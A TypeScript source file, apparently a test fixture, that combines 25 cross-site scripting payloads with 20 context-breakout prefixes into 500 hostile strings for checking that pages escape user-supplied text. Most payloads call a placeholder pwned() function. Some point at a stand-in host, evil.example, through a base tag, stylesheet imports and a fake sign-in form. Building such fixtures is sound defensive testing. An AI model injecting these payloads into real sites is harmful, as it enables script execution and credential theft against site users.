/**
 * Texts that the author of an issue, a branch or a rule may use in the hope that a page turns them into markup or a
 * script.
 */
const cores = [
  '<script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<object data="javascript:pwned()">',
  '<embed src="javascript:pwned()">',
  '<a href="javascript:pwned()">click</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<form action="https://evil.example/"><button>Sign in</button></form>',
  '<input onfocus=pwned() autofocus>',
  '<details open ontoggle=pwned()>',
  '<body onload=pwned()>',
  '<math><mtext><img src=x onerror=pwned()>',
  '<template><script>pwned()</script></template>',
  'javascript:pwned()',
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '\u2028</script\u2028><script>pwned()</script>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;img src=x onerror=pwned()&#62;',
  '\u0000<script>pwned()</script>',
] as const;

/** Ways to break out of the context of a text, such as an attribute, a comment, an element or a document. */
const breakouts = [
  '',
  '">',
  "'>",
  '"><!--',
  '-->',
  '</title>',
  '</textarea>',
  '</pre>',
  '</style>',
  '</code></td></tr></table>',
  '" autofocus onfocus=pwned() x="',
  "' autofocus onfocus=pwned() x='",
  '`>',
  '\\">',
  '\r\n\r\n',
  '<![CDATA[',
  '<!doctype html>',
  '</main></body></html>',
  '\u202e',
  'a'.repeat(300),
] as const;

/** Five hundred hostile texts. */
export const hostileTexts: readonly string[] = breakouts.flatMap((way) =>
  cores.map((core) => `${way}${core}`),
);
